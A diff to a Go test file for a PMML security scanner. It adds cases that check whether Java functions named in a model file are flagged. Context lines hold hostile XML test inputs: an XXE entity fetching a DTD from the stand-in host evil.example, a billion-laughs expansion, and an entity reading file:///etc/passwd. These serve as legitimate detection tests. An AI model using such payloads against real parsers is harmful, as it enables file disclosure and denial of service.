@@ -39,6 +39,9 @@ func TestPMML(t *testing.T) {
 		{"XXE fetching a URL through a parameter entity", strings.Replace(realPMML, "<PMML ", `<!DOCTYPE PMML [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><PMML `, 1), "pmml/xml-entity", formats.High},
 		{"billion laughs", strings.Replace(realPMML, "<PMML ", `<!DOCTYPE PMML [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><PMML `, 1), "pmml/xml-entity", formats.High},
 		{"DOCTYPE without entities", strings.Replace(realPMML, "<PMML ", `<!DOCTYPE PMML><PMML `, 1), "pmml/xml-entity", formats.Medium},
+		{"Java user function loaded from the classpath", strings.Replace(realPMML, "<MiningSchema>", `<LocalTransformations><DerivedField name="d" optype="continuous" dataType="double"><Apply function="com.example.RunCommand"><FieldRef field="x1"/></Apply></DerivedField></LocalTransformations><MiningSchema>`, 1), "pmml/java-function", formats.Medium},
+		{"JPMML-Evaluator's own function (its documented MeanFunction)", strings.Replace(realPMML, "<MiningSchema>", `<LocalTransformations><DerivedField name="d" optype="continuous" dataType="double"><Apply function="org.jpmml.evaluator.functions.MeanFunction"><FieldRef field="x1"/></Apply></DerivedField></LocalTransformations><MiningSchema>`, 1), "", 0},
+		{"built-in and x- extension functions", strings.Replace(realPMML, "<MiningSchema>", `<LocalTransformations><DerivedField name="d" optype="continuous" dataType="double"><Apply function="x-atan2"><Apply function="ln"><FieldRef field="x1"/></Apply><Constant>1.5</Constant></Apply></DerivedField></LocalTransformations><MiningSchema>`, 1), "", 0},
 		{"truncated document", realPMML[:len(realPMML)/2], "pmml/malformed", formats.High},
 		{"another root element", `<?xml version="1.0"?><net/>`, "pmml/malformed", formats.Medium},
 	}
@@ -55,6 +58,7 @@ func TestPMML(t *testing.T) {
 
 func FuzzPMML(f *testing.F) {
 	f.Add([]byte(realPMML))
+	f.Add([]byte(`<PMML><Apply function="com.example.Evil"><Apply function="a..b"/></Apply></PMML>`))
 	f.Add([]byte(`<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML>&x;</PMML>`))
 	o := formats.DefaultOptions()
 	f.Fuzz(func(t *testing.T, data []byte) {
